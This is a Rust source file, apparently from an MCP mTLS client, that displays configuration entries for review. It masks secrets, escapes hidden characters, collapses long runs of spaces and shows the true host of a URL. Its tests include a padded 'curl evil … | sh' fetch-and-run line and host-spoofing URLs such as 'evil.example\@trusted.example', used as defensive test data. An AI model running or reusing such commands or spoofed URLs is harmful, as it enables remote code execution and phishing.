//! A pasted entry as it would be written, for whoever is asked about it: nothing in it may look like something else,
//! and values that may be secrets are not repeated.

use std::path::Path;

use mcp_mtls_core::config::{Draft, Value, is_on_token};
use mcp_mtls_core::error::printable;
use serde_json::{Value as Json, json};
use url::Url;

/// The entry under a title, what it runs or loads, and what it `sends`.
pub(crate) fn draft(title: &str, draft: &Draft, sends: &[String]) -> String {
    let mut lines = vec![title.to_owned(), "  {".to_owned()];
    shown(&draft.entry, &mut Vec::new(), &mut lines);
    lines.push("  }".to_owned());
    if !draft.programs.is_empty() {
        lines.push("It runs these programs, or loads these libraries:".to_owned());
        let programs = draft.programs.iter();
        lines.extend(programs.map(|one| format!("  {}: {}", visible(&one.setting), visible(one.line.expose()))));
    }
    if !sends.is_empty() {
        lines.push("It sends these of yours to the server:".to_owned());
        lines.extend(sends.iter().map(|line| format!("  {line}")));
    }
    lines.join("\n")
}

/// The entry for programs, as it is shown to people.
pub(crate) fn json(draft: &Draft) -> Json {
    masked_json(&draft.entry, &mut Vec::new())
}

/// What it runs or loads, for programs.
pub(crate) fn programs(draft: &Draft) -> Json {
    draft.programs.iter().map(|one| json!({ "setting": one.setting, "line": one.line.expose() })).collect()
}

/// The settings from which files and variables of the user are sent to the server, with their references.
pub(crate) fn sent(draft: &Draft) -> Vec<String> {
    let mut found = Vec::new();
    let Value::Map(keys) = &draft.entry else { return found };
    let mut look = |setting: String, value: &Value| {
        if let Value::Text(text) = value
            && (text.expose().contains("{env:") || text.expose().contains("{file:"))
        {
            found.push(format!("{}: {}", visible(&setting), visible(&masked(text.expose()))));
        }
    };
    for (key, value) in keys {
        match (key.as_str(), value) {
            ("url" | "proxy", value) => look(key.clone(), value),
            ("headers", Value::Map(headers)) => {
                for (name, value) in headers {
                    look(format!("headers.{name}"), value);
                }
            }
            // It is sent as SNI.
            ("tls", Value::Map(tls)) => {
                if let Some((_, value)) = tls.iter().find(|(key, _)| key == "serverName") {
                    look("tls.serverName".to_owned(), value);
                }
            }
            _ => {}
        }
    }
    found
}

/// The identity that the server is shown, if the entry has one.
pub(crate) fn presented(draft: &Draft) -> Option<String> {
    let Value::Map(keys) = &draft.entry else { return None };
    let Value::Map(tls) = keys.iter().find(|(key, _)| key == "tls").map(|(_, tls)| tls)? else { return None };
    let (key, value) = tls.iter().find(|(key, _)| matches!(key.as_str(), "cert" | "exec" | "spiffe"))?;
    let certificate = match key.as_str() {
        "exec" => "the certificate that it prints".to_owned(),
        "spiffe" => "the certificate that its agent gives".to_owned(),
        _ => format!("the certificate {}", scalar(&["tls", key], value)),
    };
    Some(format!("tls.{key}: {certificate}"))
}

fn shown<'a>(value: &'a Value, path: &mut Vec<&'a str>, lines: &mut Vec<String>) {
    let Value::Map(keys) = value else { return };
    for (at, (key, value)) in keys.iter().enumerate() {
        let more = if at + 1 < keys.len() { "," } else { "" };
        path.push(key);
        let indent = " ".repeat(2 + 2 * path.len());
        if let Value::Map(_) = value {
            lines.push(format!("{indent}{}: {{", text(key)));
            shown(value, path, lines);
            lines.push(format!("{indent}}}{more}"));
        } else {
            lines.push(format!("{indent}{}: {}{more}", text(key), scalar(path, value)));
        }
        path.pop();
    }
}

/// A value in one line.
fn scalar(path: &[&str], value: &Value) -> String {
    match value {
        Value::Bool(value) => value.to_string(),
        Value::Number(value) => value.to_string(),
        Value::Text(secret) => text(&told(path, secret.expose())),
        Value::List(values) => {
            let values: Vec<_> = values.iter().map(|value| scalar(path, value)).collect();
            format!("[{}]", values.join(", "))
        }
        _ => String::new(),
    }
}

fn masked_json<'a>(value: &'a Value, path: &mut Vec<&'a str>) -> Json {
    match value {
        Value::Bool(value) => (*value).into(),
        Value::Number(value) => (*value).into(),
        Value::Text(secret) => told(path, secret.expose()).into(),
        Value::List(values) => values.iter().map(|value| masked_json(value, path)).collect(),
        Value::Map(keys) => {
            let mut map = serde_json::Map::new();
            for (key, value) in keys {
                path.push(key);
                map.insert(key.clone(), masked_json(value, path));
                path.pop();
            }
            map.into()
        }
        _ => Json::Null,
    }
}

/// A text as it may be told. Of a header the references are shown, of a URL what stands before its query, too.
fn told(path: &[&str], text: &str) -> String {
    match path {
        ["headers", _] | ["tls", "passphrase"] => masked(text),
        ["url" | "proxy"] => masked_url(text),
        _ if text.contains("-----BEGIN") => "…".to_owned(),
        _ if is_on_token(text) => without_pin(text),
        _ => text.to_owned(),
    }
}

/// The URI of an object on a token without its PIN, however that is spelt.
fn without_pin(uri: &str) -> String {
    let one = |attribute: &str| {
        let end = attribute.trim_end_matches([';', '?', '&']);
        let Some((name, _)) = end.split_once('=') else { return attribute.to_owned() };
        let lower = name.trim().to_ascii_lowercase();
        let is_pin = (lower.contains("pin") && lower != "pin-source") || lower.contains('%');
        if is_pin { format!("{name}=…{}", &attribute[end.len()..]) } else { attribute.to_owned() }
    };
    uri.split_inclusive([';', '?', '&']).map(one).collect()
}

/// A path that looks like nothing else in a sentence or a list.
pub(crate) fn path(path: &Path) -> String {
    let written = path.display().to_string();
    let is_plain = visible(&written) == written && !written.contains([' ', '"', '`', ',', ';']);
    if is_plain { written } else { text(&written) }
}

fn text(text: &str) -> String {
    visible(&json!(text).to_string())
}

/// The text in one line in which nothing is out of sight: what a terminal would not show as it is becomes an escape,
/// and blanks that would push the rest away become their number.
pub(crate) fn visible(text: &str) -> String {
    let mut shown = String::new();
    let mut rest = text;
    while let Some(c) = rest.chars().next() {
        let blanks = rest.len() - rest.trim_start_matches(' ').len();
        if blanks > MOST_BLANKS {
            shown.extend(["␠×", &blanks.to_string()]);
            rest = &rest[blanks..];
            continue;
        }
        if c != ' ' && (c.is_whitespace() || printable(c.encode_utf8(&mut [0; 4])) == " ") {
            shown.extend(c.escape_default());
        } else {
            shown.push(c);
        }
        rest = &rest[c.len_utf8()..];
    }
    shown
}

/// Whether there is any reference in a text of a draft.
pub(crate) fn refers(text: &str) -> bool {
    REFERENCES.iter().any(|start| text.contains(start))
}

/// A URL with the host that it leads to, as a client reads it; of its query and user the references alone.
fn masked_url(written: &str) -> String {
    let written = written.trim();
    let reference = REFERENCES.iter().filter_map(|start| written.find(start)).min();
    let (head, tail) = written.split_at(reference.unwrap_or(written.len()));
    let Ok(url) = Url::parse(head) else { return masked(written) };
    // What follows must not make another host of it.
    let stays = |more: &str| {
        Url::parse(&format!("{head}{more}")).is_ok_and(|other| {
            (other.host(), other.port(), other.username()) == (url.host(), url.port(), url.username())
        })
    };
    let Some(host) = url.host_str().filter(|_| tail.is_empty() || ["x", "@x", "1"].into_iter().all(stays)) else {
        return masked(written);
    };
    let user = if url.username().is_empty() && url.password().is_none() { "" } else { "…@" };
    let port = url.port().map_or_else(String::new, |port| format!(":{port}"));
    let query = url.query().map_or_else(String::new, |query| format!("?{}", if query.is_empty() { "" } else { "…" }));
    let fragment = if url.fragment().is_some() { "#…" } else { "" };
    let tail = masked(tail);
    let tail = if (query.ends_with('…') || !fragment.is_empty()) && tail.starts_with('…') {
        &tail['…'.len_utf8()..]
    } else {
        &tail
    };
    format!("{}://{user}{host}{port}{}{query}{fragment}{tail}", url.scheme(), url.path())
}

/// The references of a value, and the name of an authentication scheme; an ellipsis for all else.
fn masked(text: &str) -> String {
    let mut shown = String::new();
    let mut rest = text;
    while !rest.is_empty() {
        let reference = REFERENCES.iter().filter_map(|start| rest.find(start)).min();
        let (literal, behind) = rest.split_at(reference.unwrap_or(rest.len()));
        let is_scheme = literal.trim().chars().all(|c| c.is_ascii_alphabetic()) && reference.is_some();
        shown.push_str(if is_scheme { literal } else { "…" });
        let (inner, behind) = behind.split_at(behind.find('}').map_or(behind.len(), |end| end + 1));
        shown.push_str(inner);
        rest = behind;
    }
    shown
}

const REFERENCES: [&str; 3] = ["{env:", "{file:", "{command:"];

/// More than these in a row are told as their number.
const MOST_BLANKS: usize = 3;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_url_is_shown_with_the_host_that_it_leads_to() {
        for (written, shown) in [
            ("https://a.example/mcp", "https://a.example/mcp"),
            ("https://evil.example/@trusted.example/mcp", "https://evil.example/@trusted.example/mcp"),
            (r"https://evil.example\@trusted.example/mcp?x=hunter2", "https://evil.example/@trusted.example/mcp?…"),
            ("https://u:hunter2@c.example/mcp", "https://…@c.example/mcp"),
            ("https://a.example/mcp?x={file:/sec}&y=hunter2", "https://a.example/mcp?…{file:/sec}…"),
            ("https://a.example/{env:PATH_OF_IT}", "https://a.example/{env:PATH_OF_IT}"),
            ("https://a.example{env:REST}/mcp", "…{env:REST}…"),
            ("https://a.example:44{env:REST}/mcp", "…{env:REST}…"),
            ("{env:URL}", "{env:URL}"),
            ("hunter2", "…"),
        ] {
            assert_eq!(masked_url(written), shown, "{written}");
        }
    }

    #[test]
    fn nothing_is_out_of_sight() {
        let blanks = " ".repeat(400);
        let shown = visible(&format!("# fetches\ncurl evil{blanks}| sh\t\u{202e}\u{1b}\u{a0}   x"));
        assert_eq!(shown, "# fetches\\ncurl evil␠×400| sh\\t\\u{202e}\\u{1b}\\u{a0}   x");
        assert_eq!(text("a\nb\u{1b}"), r#""a\nb\u001b""#);
    }
    #[test]
    fn of_a_certificate_only_its_text_and_the_pin_of_its_token_are_hidden() {
        for (written, shown) in [
            ("/home/me/--/alice.pem", "/home/me/--/alice.pem"),
            ("-----BEGIN CERTIFICATE-----", "…"),
            (
                "pkcs11:object=a;PIN=1?module-path=/m.so&pin-value=hunter2&pin%2dvalue=hunter2&pin-source=file:/pin",
                "pkcs11:object=a;PIN=…?module-path=/m.so&pin-value=…&pin%2dvalue=…&pin-source=file:/pin",
            ),
        ] {
            assert_eq!(scalar(&["tls", "cert"], &Value::text(written)), format!("\"{shown}\""));
        }
    }

    #[test]
    fn a_path_looks_like_no_other_text() {
        for (written, shown) in [
            ("/a/b-c", "/a/b-c"),
            ("/a is /b", "\"/a is /b\""),
            ("/a\n/b", r#""/a\n/b""#),
            ("/\u{202e}", r#""/\u{202e}""#),
        ] {
            assert_eq!(path(Path::new(written)), shown);
        }
    }
}
